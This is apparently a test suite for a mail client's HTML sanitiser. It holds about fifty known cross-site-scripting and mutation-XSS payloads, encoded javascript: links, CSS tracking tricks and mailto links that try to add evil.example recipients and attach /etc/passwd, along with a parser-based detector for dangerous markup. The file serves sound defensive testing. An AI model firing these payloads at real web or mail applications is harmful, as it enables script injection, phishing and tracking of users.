// Untrusted HTML: known attacks, remote images, cids, styles, and whatever fast-check generates.
import { describe, expect, test } from 'bun:test';
import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { sanitiseHtml } from '../../src/mail/inbound/sanitise.ts';
import { caseCount } from '../support/case-count.ts';

const options = { cidUrl: (cid: string) => (cid === 'i1@x' ? '/attachments/7?signature=s' : null) };
const clean = (html: string) => sanitiseHtml(html, options).html;

/** Everything that a browser would act on, found with a parser and not by searching for words. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser({
    onopentag(name, attributes) {
      if (
        /^(script|style|iframe|object|embed|form|input|button|base|meta|link|svg|math|video|audio|template|frame|frameset|applet)$/.test(
          name,
        )
      )
        found.push(`<${name}>`);
      for (const [key, value] of Object.entries(attributes)) {
        const address = [...value]
          .filter((char) => char > ' ')
          .join('')
          .toLowerCase();
        if (key.startsWith('on')) found.push(key);
        if (
          /^(href|src|action|formaction|xlink:href|background|srcset|poster)$/.test(key) &&
          !/^(https?:|mailto:|tel:|data:image\/(png|gif|jpe?g|webp);|\/attachments\/)/.test(address)
        )
          found.push(`${key}=${value}`);
        if (key === 'style' && /url\(|expression|position|@import|\\|<|javascript/i.test(value))
          found.push(`style=${value}`);
      }
      if (name === 'img' && /^https?:/.test(attributes.src ?? '')) found.push(`remote ${attributes.src}`);
      if (name === 'a' && (attributes.target !== '_blank' || !attributes.rel?.includes('noopener')))
        found.push('unsafe link');
    },
  });
  parser.end(html);
  return found;
}

describe('known attacks', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//x.example/x.js></SCRIPT>',
    '<img src=x onerror=alert(1)>',
    '<img/src="x"/onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="x"></object>',
    '<embed src="x">',
    '<form action="https://x.example"><input name=p><button>ok</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://x.example">',
    '<link rel=stylesheet href="https://x.example/x.css">',
    '<style>@import "https://x.example"</style>',
    '<div style="background:url(https://x.example/t.gif)">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="position:fixed;inset:0;z-index:9">x</div>',
    '<div style="color:red;\\62 ackground:url(x)">x</div>',
    '<table background="https://x.example/t.gif"><tr><td>x</td></tr></table>',
    '<img srcset="https://x.example/t.gif 1x">',
    '<video poster="https://x.example/t.gif" src=x></video>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<<script>alert(1)</script>',
    '<img """><script>alert(1)</script>">',
    '<a href="https://ok.example" onclick="alert(1)" target="_self">x</a>',
    '<template><img src=x onerror=alert(1)></template>',
    '<img src="cid:x" onload=alert(1)>',
    '<img data-remote-src="javascript:alert(1)">',
    '<img data-cid="&quot; onerror=alert(1) x=&quot;">',
  ])('%s', (attack) => {
    const once = clean(attack);
    expect(dangers(once)).toEqual([]);
    expect(clean(once)).toBe(once);
  });
});

describe('a link that writes a mail', () => {
  test.each([
    ['mailto:mia@example.org?cc=eve@evil.example&body=All%20passwords&attach=/etc/passwd', 'mailto:mia@example.org'],
    ['MAILTO:mia%40example.org?bcc=eve@evil.example', 'mailto:mia@example.org'],
    ['mailto:mia@example.org%3Fbcc=eve@evil.example', null],
    ['mailto:mia@example.org,eve@evil.example', null],
    ['mailto:?to=eve@evil.example', null],
    ['mailto:%', null],
  ])('%s carries only an address', (href, kept) => {
    const shown = clean(`<a href="${href}">write</a>`);
    expect(/ href="([^"]*)"/.exec(shown)?.[1] ?? null).toBe(kept);
    expect(shown).toContain('write');
    expect(clean(shown)).toBe(shown);
  });
});

describe('images', () => {
  test('of strangers are held back until they are asked for', () => {
    const html = '<img src="https://t.example/p.gif?a=1&amp;b=2" width="1" alt="x"><img src="http://t.example/q.gif">';
    const held = sanitiseHtml(html, options);
    expect(held).toEqual({
      html: '<img alt="x" width="1" data-remote-src="https://t.example/p.gif?a=1&amp;b=2" /><img data-remote-src="http://t.example/q.gif" />',
      heldBackImages: 2,
    });
    expect(sanitiseHtml(held.html, { ...options, allowRemoteImages: true })).toEqual({
      html: '<img alt="x" width="1" src="https://t.example/p.gif?a=1&amp;b=2" loading="lazy" referrerpolicy="no-referrer" /><img src="http://t.example/q.gif" loading="lazy" referrerpolicy="no-referrer" />',
      heldBackImages: 0,
    });
  });

  test('within the message are found by cid, now or when stored HTML is shown', () => {
    const stored = sanitiseHtml('<img src="cid:i1%40x"><img src="cid:gone">', { cidUrl: () => null }).html;
    expect(stored).toBe('<img data-cid="i1@x" /><img data-cid="gone" />');
    expect(clean(stored)).toBe(
      '<img src="/attachments/7?signature=s" data-cid="i1@x" loading="lazy" referrerpolicy="no-referrer" /><img data-cid="gone" />',
    );
  });

  test('as data stay, but for SVG', () => {
    expect(clean('<img src="data:image/png;base64,QUJD">')).toBe('<img src="data:image/png;base64,QUJD" />');
    expect(clean('<img src="data:image/svg+xml;base64,QUJD">')).toBe('<img />');
  });
});

describe('what mail looks like stays', () => {
  test.each([
    [
      '<p style="color:#333;font-size:14px">Hi <b>you</b></p>',
      '<p style="color:#333;font-size:14px">Hi <b>you</b></p>',
    ],
    [
      '<a href="https://x.example/a?b=1&amp;c=2">x</a>',
      '<a href="https://x.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    ],
    [
      '<table width="600" cellpadding="0"><tr><td align="center" bgcolor="#fff">x</td></tr></table>',
      '<table width="600" cellpadding="0"><tr><td align="center" bgcolor="#fff">x</td></tr></table>',
    ],
    ['<blockquote type="cite">x</blockquote>', '<blockquote type="cite">x</blockquote>'],
    ['<html><head><title>t</title><body>words', 'words'],
    ['1 < 2 & 3 > 2', '1 &lt; 2 &amp; 3 &gt; 2'],
  ])('%s', (before, after) => expect(clean(before)).toBe(after));
});

test('a property: nothing dangerous is left, nor after a second run', () => {
  const piece = fc.constantFrom(
    '<',
    '>',
    '"',
    "'",
    '/',
    '=',
    ' ',
    '<a href="',
    '<img src=',
    '<p style="',
    'javascript:',
    'https://x.example',
    'cid:i1@x',
    'onerror=alert(1)',
    '<script>',
    '</script>',
    '<svg>',
    '<math>',
    '<style>',
    '</style>',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '<table>',
    '<td>',
    '</p>',
    '&lt;',
    '&#106;',
    '\0',
    '\\',
    'url(',
    ')',
    ';color:red',
    'position:fixed',
    '<title>',
    '<noscript>',
    '<template>',
    '<form>',
    'data:image/png;base64,QUJD',
    '<select><option>',
    'data-cid=',
    'data-remote-src="',
  );
  fc.assert(
    fc.property(
      fc.array(fc.oneof({ weight: 5, arbitrary: piece }, fc.string({ maxLength: 5 })), { maxLength: 40 }),
      (pieces) => {
        const once = clean(pieces.join(''));
        expect(dangers(once)).toEqual([]);
        expect(dangers(clean(once))).toEqual([]);
      },
    ),
    { numRuns: caseCount(100, 1500) },
  );
});

test.each([
  '<div>',
  '<',
  '<a href="https://x">',
  '<p style="color:red">x</p>',
  '<img src="https://x/y">',
  '<td>x',
  '<ul><li>',
])('half a megabyte of %p is read to its end', (piece) => {
  const html = piece.repeat(Math.ceil((512 * 1024) / piece.length));
  expect(clean(html)).toBeString();
});
